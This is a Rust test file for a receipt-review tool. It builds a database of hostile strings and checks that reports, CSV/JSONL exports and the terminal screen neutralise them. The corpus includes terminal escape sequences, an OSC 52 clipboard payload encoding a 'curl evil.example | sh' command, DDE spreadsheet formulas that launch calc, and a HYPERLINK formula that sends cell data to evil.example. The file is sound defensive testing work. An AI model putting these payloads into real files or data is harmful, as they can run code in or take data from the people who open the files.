//! Hostile data from strangers: payloads, field names, keys, scopes, times and
//! notes carrying escape sequences (CSI, OSC title, OSC 8 links, OSC 52
//! clipboard, DCS), C1 controls, bidi and zero-width characters, CR/BS
//! overwrite tricks, NUL, invalid UTF-8 (as TEXT and as BLOB), spreadsheet
//! formulas, 1 MB fields, 10,000-field objects and deep nesting.
//!
//! The corpus is generated here ([`hostile_db`]; `RELIAB_HOSTILE_OUT=path
//! cargo test --test reliability -- --ignored write_the_hostile_fixture`
//! writes it out for a look).
//!
//! - the review screen (the real binary in a pseudo-terminal, every tab, the
//!   detail and the raw payloads) writes no escape sequence but cursor
//!   movement, colours, erase and the screen modes, and no raw control, C1,
//!   bidi or invisible character;
//! - `report`, `report --json`, `check` and `export` (CSV and JSONL) neither
//!   crash nor put a raw control character where a person reads them
//!   (a pipe or a terminal);
//! - the exported CSV has no cell a spreadsheet would run as a formula, and
//!   every exported value is faithful.

use crate::{common, support};

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use receipt_review::intake::canonical::{canonical_text, sha256_hex};
use rusqlite::{Connection, params};
use serde_json::{Value, json};
use support::{
    Pty, assert_clean_exit, check_screen_bytes, human_text, inspect, spawn_bin, stderr, wait_output,
};

const NOW: &str = "2026-11-29T12:00:00Z";
/// One hour before NOW, in unix ms.
const T0: i64 = 1_795_950_000_000;

/// The hostile strings, by name.
fn corpus() -> Vec<(&'static str, String)> {
    let s = |x: &str| x.to_string();
    vec![
        ("osc-title", s("\x1b]0;pwned\x07")),
        ("osc-title-st", s("\x1b]2;owned title\x1b\\")),
        (
            "osc8-link",
            s("\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\"),
        ),
        (
            "osc52-clipboard",
            s("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"),
        ),
        ("dcs", s("\x1bP+q544e\x1b\\")),
        ("dcs-tmux", s("\x1bPtmux;\x1b\x1b]0;x\x07\x1b\\")),
        ("csi-clear-home", s("\x1b[2J\x1b[H")),
        ("csi-report", s("\x1b[6n\x1b[21t\x1b[c")),
        ("csi-modes", s("\x1b[?1049l\x1b[?25l\x1b[?1000h\x1b[8m")),
        ("csi-window", s("\x1b[8;1;1t\x1b[3;9999;9999t")),
        ("c1-csi", s("\u{9b}31mred\u{9b}0m")),
        (
            "c1-osc-dcs",
            s("\u{9d}0;c1 title\u{9c}\u{90}q\u{9c}\u{85}\u{8d}"),
        ),
        ("bidi-override", s("invoice\u{202e}fdp.exe\u{202c}")),
        (
            "bidi-isolate",
            s("\u{2066}admin\u{2069}\u{2067}x\u{2069}\u{200f}\u{061c}"),
        ),
        (
            "zero-width",
            s("pa\u{200b}y\u{200c}p\u{200d}a\u{2060}l\u{feff}\u{e0041}"),
        ),
        ("cr-overwrite", s("paid in full\rUNPAID      ")),
        (
            "bs-overwrite",
            s("approved\x08\x08\x08\x08\x08\x08\x08\x08denied  "),
        ),
        ("del-nul", s("del\x7fnul\0after")),
        ("bell-vt-ff", s("bell\x07vt\x0bff\x0c")),
        ("line-separators", s("one\u{2028}two\u{2029}three")),
        ("newlines", s("first line\nsecond line\r\nthird")),
        ("tabs", s("a\tb\t\tc")),
        (
            "formula",
            s("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        ),
        ("formula-plus", s("+cmd|' /C calc'!A0")),
        ("formula-minus", s("-2+3+cmd|' /C calc'!A0")),
        ("formula-at", s("@SUM(1+1)*cmd|' /C calc'!A0")),
        ("formula-tab", s("\t=1+1")),
        ("formula-cr", s("\r=1+1")),
        (
            "zalgo",
            format!("z{}a{}", "\u{301}".repeat(60), "\u{316}".repeat(60)),
        ),
        ("wide", s("全角＝１＋１　お問い合わせ")),
    ]
}

/// Everything a person should see instead of the raw characters somewhere.
const VISIBLE: [&str; 4] = ["\\x1b]0;pwned\\x07", "\\u{202e}", "\\u{2066}", "\\x9b31m"];

struct Built {
    db: PathBuf,
    /// The notes stored in the log, in append order.
    notes: Vec<String>,
    /// Scopes as stored (valid UTF-8 ones).
    scopes: Vec<String>,
}

fn insert_raw(
    conn: &Connection,
    scope: &dyn rusqlite::ToSql,
    key: &dyn rusqlite::ToSql,
    payload: &dyn rusqlite::ToSql,
    digest: &str,
    state: &str,
    at: &dyn rusqlite::ToSql,
) -> i64 {
    conn.execute(
        "INSERT INTO receipts (scope, request_key, digest, payload, state, created_at) \
         VALUES (?1, ?2, ?3, ?4, ?5, ?6)",
        params![scope, key, digest, payload, state, at],
    )
    .unwrap();
    conn.last_insert_rowid()
}

fn insert_json(
    conn: &Connection,
    scope: &str,
    key: &str,
    payload: &Value,
    at_ms: i64,
    state: &str,
) -> i64 {
    let canon = canonical_text(&payload.to_string()).unwrap();
    let at = receipt_review::model::time::format_rfc3339(at_ms);
    insert_raw(conn, &scope, &key, &canon, &sha256_hex(&canon), state, &at)
}

fn nested(depth: usize) -> String {
    format!("{}1{}", "[".repeat(depth), "]".repeat(depth))
}

/// Writes the hostile database into `dir`.
fn hostile_db(dir: &Path) -> Built {
    let db = dir.join("hostile.db");
    let o = common::run(&["init", db.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let conn = Connection::open(&db).unwrap();
    let tx = conn.unchecked_transaction().unwrap();
    let mut scopes = Vec::new();
    let mut minute = 0i64;
    let mut next_time = || {
        minute += 15;
        T0 - 3 * 3_600_000 + minute * 60_000
    };
    for (i, (name, evil)) in corpus().iter().enumerate() {
        let scope = format!("site/{name}/{evil}");
        scopes.push(scope.clone());
        let payload = json!({
            "name": format!("Visitor {evil}"),
            "email": format!("v{i}@example.com"),
            "message": format!("Hello {evil} please call me back about order {i}"),
            format!("field {evil}"): evil,
            "nul": "a\u{0}b",
        });
        // Two clicks 2.5 s apart: a duplicate group whose scope, fields and
        // keys are all hostile.
        let at = next_time();
        let first = insert_json(&tx, &scope, &format!("k{i}a"), &payload, at, "completed");
        insert_json(
            &tx,
            &scope,
            &format!("k{i}b{evil}"),
            &payload,
            at + 2500,
            "completed",
        );
        // A refused attempt with a different, hostile body.
        let attempt = json!({"message": format!("changed {evil}"), format!("{evil}"): evil});
        tx.execute(
            "INSERT INTO key_conflicts (receipt_id, digest, payload, received_at) \
             VALUES (?1, ?2, ?3, ?4)",
            params![
                first,
                sha256_hex(&attempt.to_string()),
                attempt.to_string(),
                receipt_review::model::time::format_rfc3339(at + 60_000)
            ],
        )
        .unwrap();
        // Stuck with a hostile key.
        insert_json(
            &tx,
            &scope,
            &format!("pay{evil}"),
            &json!({"amount": i, "note": evil}),
            T0 - 600_000 + i as i64,
            "in_flight",
        );
        // Damaged: not JSON, and a time that does not parse.
        insert_raw(
            &tx,
            &scope,
            &format!("bad{i}"),
            &format!("not json {evil}"),
            "d",
            "completed",
            &receipt_review::model::time::format_rfc3339(next_time()),
        );
        insert_raw(
            &tx,
            &scope,
            &format!("time{i}"),
            &"{}",
            &sha256_hex("{}"),
            "completed",
            &format!("yesterday {evil}"),
        );
    }
    // Invalid UTF-8: a BLOB payload, a TEXT payload, a BLOB scope and key.
    let invalid: &[u8] = b"\xff\xfe\x1b[2J\x9b31m\xc3";
    insert_raw(
        &tx,
        &"site/blob",
        &"blob1",
        &invalid,
        "d",
        "completed",
        &"2026-11-29T09:00:00Z",
    );
    tx.execute(
        "INSERT INTO receipts (scope, request_key, digest, payload, created_at) \
         VALUES ('site/text', 'text1', 'd', CAST(?1 AS TEXT), '2026-11-29T09:00:01Z')",
        [invalid],
    )
    .unwrap();
    tx.execute(
        "INSERT INTO receipts (scope, request_key, digest, payload, created_at) \
         VALUES (CAST(?1 AS TEXT), CAST(?1 AS TEXT), ?2, '{}', '2026-11-29T09:00:02Z')",
        params![invalid, sha256_hex("{}")],
    )
    .unwrap();
    insert_raw(
        &tx,
        &invalid,
        &invalid,
        &"{\"a\":1}",
        "d",
        "in_flight",
        &"2026-11-29T09:00:03Z",
    );
    // Big: a 1 MB message (twice), 10,000 fields (twice), nesting 100 deep
    // (twice) and 10,000 deep (beyond any parser's limit).
    let big = format!("{} {}", "word ".repeat(200_000), corpus()[0].1);
    let at = next_time();
    for k in ["big1", "big2"] {
        insert_json(
            &tx,
            "site/big",
            k,
            &json!({"name": "Big", "message": big}),
            at,
            "completed",
        );
    }
    let wide: serde_json::Map<String, Value> = (0..10_000)
        .map(|i| {
            (
                format!("f{i}\u{202e}"),
                Value::from(format!("v{i}\x1b[31m")),
            )
        })
        .collect();
    let at = next_time();
    for k in ["wide1", "wide2"] {
        insert_json(
            &tx,
            "site/wide",
            k,
            &Value::Object(wide.clone()),
            at,
            "completed",
        );
    }
    let deep: Value = serde_json::from_str(&nested(100)).unwrap();
    let at = next_time();
    for k in ["deep1", "deep2"] {
        insert_json(
            &tx,
            "site/deep",
            k,
            &json!({"name": "Deep", "tree": deep}),
            at,
            "completed",
        );
    }
    let deeper = format!("{{\"tree\":{}}}", nested(10_000));
    insert_raw(
        &tx,
        &"site/deeper",
        &"deeper",
        &deeper,
        &sha256_hex(&deeper),
        "completed",
        &"2026-11-29T09:00:04Z",
    );
    tx.commit().unwrap();

    // Decisions with hostile notes, through the real binary, and a row with a
    // hostile operator name from some other tool.
    let mut notes = Vec::new();
    for (i, (_, evil)) in corpus().iter().enumerate().take(4) {
        let note = format!("{evil} note {i}").replace('\0', "");
        let o = common::run(&[
            "resolve",
            db.to_str().unwrap(),
            &format!("stuck:{}", 3 + i * 5),
            if i % 2 == 0 {
                "failed"
            } else {
                "still_pending"
            },
            "--operator",
            "aiko",
            "--note",
            &note,
            "--now",
            NOW,
        ]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        notes.push(note);
    }
    for (i, (_, evil)) in corpus().iter().enumerate() {
        let note = format!("{evil}\0{i}");
        conn.execute(
            "INSERT INTO review_log (item, kind, decision, operator, decided_at, receipt_ids, note) \
             VALUES (?1, 'duplicate', 'distinct', ?2, '2026-11-29T11:00:00.000Z', '[1,2]', ?3)",
            params![format!("dup:{}", 1 + i * 5), format!("eve{evil}"), note],
        )
        .unwrap();
        notes.push(note);
    }
    conn.execute_batch("PRAGMA wal_checkpoint(TRUNCATE);")
        .unwrap();
    Built { db, notes, scopes }
}

/// The hostile database, built once and copied into `dir` for each test.
fn hostile_copy(dir: &Path) -> Built {
    static BUILT: std::sync::OnceLock<(tempfile::TempDir, Built)> = std::sync::OnceLock::new();
    let (_, built) = BUILT.get_or_init(|| {
        let dir = tempfile::tempdir().unwrap();
        let built = hostile_db(dir.path());
        (dir, built)
    });
    let db = dir.join("hostile.db");
    std::fs::copy(&built.db, &db).unwrap();
    Built {
        db,
        notes: built.notes.clone(),
        scopes: built.scopes.clone(),
    }
}

#[test]
#[ignore = "writes the hostile fixture to RELIAB_HOSTILE_OUT for a look"]
fn write_the_hostile_fixture() {
    let Some(out) = std::env::var_os("RELIAB_HOSTILE_OUT") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let built = hostile_db(dir.path());
    std::fs::copy(&built.db, out).unwrap();
}

fn run_timed(args: &[&str]) -> std::process::Output {
    let what = format!("{:?}", &args[..1]);
    wait_output(spawn_bin(args), Duration::from_secs(60), &what).0
}

fn starts_like_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// What a pseudo-terminal shows: the line discipline turns `\n` into `\r\n`.
fn tty_text(bytes: &[u8]) -> Vec<u8> {
    String::from_utf8_lossy(bytes)
        .replace("\r\n", "\n")
        .into_bytes()
}

/// A command in a pseudo-terminal, as a person runs it: its exit code and
/// everything it wrote.
fn in_a_terminal(args: &[&str], cwd: &Path) -> (u32, Vec<u8>) {
    let mut pty = Pty::spawn(args, 200, 50, cwd);
    let status = pty.wait_exit(Duration::from_secs(60));
    (status.exit_code(), pty.raw())
}

#[test]
fn report_check_and_export_put_no_raw_control_character_where_a_person_reads() {
    let dir = tempfile::tempdir().unwrap();
    let built = hostile_copy(dir.path());
    let p = built.db.to_str().unwrap();
    let started = Instant::now();

    // The summary and check: text for people.
    for (args, code) in [(vec!["report", p, "--now", NOW], 0), (vec!["check", p], 1)] {
        let o = run_timed(&args);
        assert_eq!(
            assert_clean_exit(&o, &format!("{args:?}")),
            code,
            "{}",
            stderr(&o)
        );
        human_text(&o.stdout).unwrap_or_else(|e| panic!("{args:?}: stdout {e}"));
        let text = String::from_utf8_lossy(&o.stdout);
        assert!(
            text.contains("\\x1b"),
            "{args:?} shows nothing escaped:\n{text}"
        );
    }

    // The JSON report: terminal-safe bytes that decode to the stored text.
    let o = run_timed(&["report", p, "--json", "--now", NOW]);
    assert_eq!(assert_clean_exit(&o, "report --json"), 0);
    human_text(&o.stdout).unwrap_or_else(|e| panic!("report --json: {e}"));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let scopes: Vec<&str> = v["duplicates"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|g| g["scope"].as_str())
        .collect();
    for scope in &built.scopes {
        assert!(
            scopes.contains(&scope.as_str()),
            "{scope:?} lost in {scopes:?}"
        );
    }
    assert!(
        v["counts"]["damaged"].as_u64().unwrap() >= 60,
        "{}",
        v["counts"]
    );

    // CSV: faithful through a CSV reader, never a formula.
    let o = run_timed(&["export", p, "--format", "csv"]);
    assert_eq!(assert_clean_exit(&o, "export csv"), 0);
    let mut reader = csv::ReaderBuilder::new().from_reader(&o.stdout[..]);
    let mut csv_notes = Vec::new();
    let mut cells = 0;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            cells += 1;
            assert!(!starts_like_a_formula(cell), "a formula cell: {cell:?}");
        }
        csv_notes.push(receipt_review::review::unquote_cell(&record[7]).to_string());
    }
    assert_eq!(csv_notes, built.notes);

    // JSONL: faithful, and terminal-safe bytes as well.
    let o = run_timed(&["export", p, "--format", "jsonl"]);
    assert_eq!(assert_clean_exit(&o, "export jsonl"), 0);
    human_text(&o.stdout).unwrap_or_else(|e| panic!("export jsonl: {e}"));
    let jsonl_notes: Vec<String> = String::from_utf8(o.stdout)
        .unwrap()
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["note"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    assert_eq!(jsonl_notes, built.notes);

    // File names are text a person reads too.
    let evil_out = dir.path().join("log\x1b]0;owned\x07\u{202e}.csv");
    let evil_db = dir.path().join("new\x1b[2J\u{9b}31m.db");
    let evil_demo = dir.path().join("demo\x1b]8;;evil\x07.db");
    for (args, code) in [
        (vec!["export", p, "--out", evil_out.to_str().unwrap()], 0),
        (vec!["init", evil_db.to_str().unwrap()], 0),
        (
            vec![
                "demo",
                "--out",
                evil_demo.to_str().unwrap(),
                "--receipts",
                "50",
            ],
            0,
        ),
        // And in the error of a second time.
        (
            vec![
                "demo",
                "--out",
                evil_demo.to_str().unwrap(),
                "--receipts",
                "50",
            ],
            2,
        ),
    ] {
        let o = run_timed(&args);
        assert_eq!(
            assert_clean_exit(&o, &format!("{args:?}")),
            code,
            "{}",
            stderr(&o)
        );
    }

    // In a terminal, where a person reads them, the same commands write only
    // harmless text (an export to the screen shows cells' control characters
    // as visible escapes).
    for (args, code) in [
        (vec!["report", p, "--now", NOW], 0),
        (vec!["report", p, "--json", "--now", NOW], 0),
        (vec!["check", p], 1),
        (vec!["export", p, "--format", "csv"], 0),
        (vec!["export", p, "--format", "jsonl"], 0),
        (
            vec!["resolve", p, "stuck:3", "failed", "--note", "\x1b]0;x\x07"],
            1,
        ),
    ] {
        let (status, bytes) = in_a_terminal(&args, dir.path());
        assert_eq!(status, code, "{args:?}");
        let shown = tty_text(&bytes);
        human_text(&shown).unwrap_or_else(|e| panic!("{args:?} in a terminal: {e}"));
    }
    eprintln!(
        "hostile: {} corpus strings in scopes, keys, field names, values, conflicts, times, \
         notes and operators; {} receipts, {} log rows, {cells} CSV cells; \
         report, check and export in {:?}",
        corpus().len(),
        inspect(&built.db)
            .query_row("SELECT count(*) FROM receipts", [], |r| r.get::<_, i64>(0))
            .unwrap(),
        built.notes.len(),
        started.elapsed()
    );
}

#[test]
fn the_screen_writes_only_harmless_sequences_for_hostile_data() {
    let dir = tempfile::tempdir().unwrap();
    let built = hostile_copy(dir.path());
    let p = built.db.to_str().unwrap();
    let mut screen = Pty::spawn(
        &[p, "--operator", "aiko", "--now", NOW],
        160,
        48,
        dir.path(),
    );
    screen.wait_for("dup:", Duration::from_secs(60));
    let mut seen = String::new();
    // Keys go in one write each (an escape sequence split over two writes
    // would be two keys). No lone Esc is followed by another key, as a slow
    // frame would leave both to be read together as Alt+key: `h` leaves the
    // detail, and an Esc that closes a line is waited for.
    let mut press = |screen: &mut Pty, keys: &str, pause_ms: u64| {
        screen.keys(keys);
        std::thread::sleep(Duration::from_millis(pause_ms));
        seen.push_str(&screen.text());
    };
    // Every tab; the list, the detail and the raw payloads of many items.
    for tab in ["1", "2", "3", "4", "5", "6", "7", "8"] {
        press(&mut screen, tab, 150);
        if tab == "6" {
            // The Receipts list types every letter into its search: it is
            // walked by arrows only (searches come below, on the filter).
            for key in ["\r", "\x1b[6~", "\x1b[B", "\x1b[F"] {
                press(&mut screen, key, 60);
            }
            continue;
        }
        for _ in 0..2 {
            press(&mut screen, "\r", 40);
            press(&mut screen, "v", 150);
            press(&mut screen, "\x1b[6~", 40); // PgDn in the detail
            press(&mut screen, "v", 40);
            press(&mut screen, "h", 40);
            // Arrows, not `j`/`G`: on the Receipts list a letter is typed
            // into the search.
            for _ in 0..7 {
                press(&mut screen, "\x1b[B", 40);
            }
        }
        press(&mut screen, "\x1b[F", 40); // End
        press(&mut screen, "\r", 40);
        press(&mut screen, "v", 150);
        press(&mut screen, "vh", 50);
    }
    // Found by a filter: the group whose scope hides a bidi override, and the
    // 1 MB, 10,000-field and deeply nested payloads, compared and raw.
    press(&mut screen, "1", 60);
    let mut filtered = Vec::new();
    for filter in ["invoice", "site/big", "site/wide", "site/deep"] {
        press(&mut screen, "/\x15", 40); // Ctrl-U clears the line
        press(&mut screen, filter, 40);
        press(&mut screen, "\r", 40);
        filtered.push(screen.wait_for(&format!("filter \"{filter}\""), Duration::from_secs(20)));
        // The newest match, first: the big payloads were written last.
        press(&mut screen, "g", 40);
        press(&mut screen, "\r", 300);
        press(&mut screen, "\x1b[6~", 100);
        press(&mut screen, "v", 300);
        press(&mut screen, "\x1b[6~", 100);
        press(&mut screen, "vh", 50);
    }
    // A note typed with control bytes in it, then cancelled.
    press(&mut screen, "n\x07\x01", 60);
    screen.wait_for("note for", Duration::from_secs(20));
    press(&mut screen, "\x1b", 60);
    screen.wait_until("the note closed", Duration::from_secs(20), |t| {
        !t.contains("note for")
    });
    screen.resize(80, 24);
    press(&mut screen, "2", 100);
    press(&mut screen, "\r", 100);
    press(&mut screen, "v", 300);
    screen.settle(Duration::from_millis(200), Duration::from_secs(10));
    screen.keys("q");
    let status = screen.wait_exit(Duration::from_secs(20));
    assert!(status.success(), "{status:?}");

    // The big ones were drawn: the 1 MB message, the 10,000 hostile field
    // names, the nested tree.
    assert_eq!(filtered.len(), 4);
    for drawn in ["word word word word", "f0\\u{202e}", "\"tree\""] {
        assert!(seen.contains(drawn), "{drawn} never shown");
    }
    let raw = screen.raw();
    let sequences = check_screen_bytes(&raw).unwrap_or_else(|e| panic!("the screen wrote {e}"));
    for visible in VISIBLE {
        assert!(seen.contains(visible), "{visible} never shown");
    }
    eprintln!(
        "hostile screen: {} bytes written, {sequences} escape sequences, all harmless",
        raw.len()
    );
}
